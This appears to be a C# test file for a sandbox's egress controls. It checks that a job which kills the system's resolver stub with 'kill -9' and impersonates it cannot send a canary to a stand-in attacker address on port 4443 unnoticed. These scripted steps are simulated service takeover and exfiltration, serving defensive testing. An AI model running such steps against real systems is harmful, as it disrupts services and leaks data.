namespace Sallyport.Kernel.Tests;

/// <summary>HARDENING rule 2: the job ends the machine's stub and takes its place, over TCP too.</summary>
public sealed class StoppedStubTests : KernelTest, IClassFixture<StubLabFixture>
{
    private readonly StubLabFixture _fixture;

    public StoppedStubTests(StubLabFixture fixture)
        : base(fixture)
    {
        Assert.SkipWhen(fixture.WhyNoStub is not null, fixture.WhyNoStub ?? "");
        _fixture = fixture;
    }

    [Theory]
    [EveryMode("local", "tcp")]
    public async Task What_the_job_answers_after_it_has_ended_the_stub_leases_nothing(LabMode mode, string how)
    {
        _fixture.StopStub();
        foreach (var now in mode == LabMode.Off ? [LabMode.Off] : (LabMode[])[LabMode.Off, mode])
        {
            var stub = await _fixture.StartStubAsync();
            var run = await Lab.RunAsync(now, Script(
                $"kill -9 {stub} && while kill -0 {stub} 2>/dev/null; do sleep 0.01; done",
                $"{Program("forge")} {how} {Stub} v4.test {Attacker} 4443 {Canary} || echo failed") with
            {
                Allow = ["tcp://v4.test:4443"],
            });
            Assert.Equal(now != LabMode.Block, run.Traffic.Contains(Canary));
            if (now != LabMode.Off)
            {
                var row = Assert.Single(run.Report.Connections, c => c is { Address: Attacker, Port: 4443 });
                Assert.Equal(
                    (now == LabMode.Audit ? "observed" : "refused", "no-rule"), (row.Verdict, row.Reason));
                Assert.Equal("forge", Path.GetFileName(run.Report.ExeOf(row.Process)));
                _ = AssertFound(run, "resolver-stopped", "reported", null); // a service that ends is told by its descriptor: by whom is not known
            }
        }
    }
}
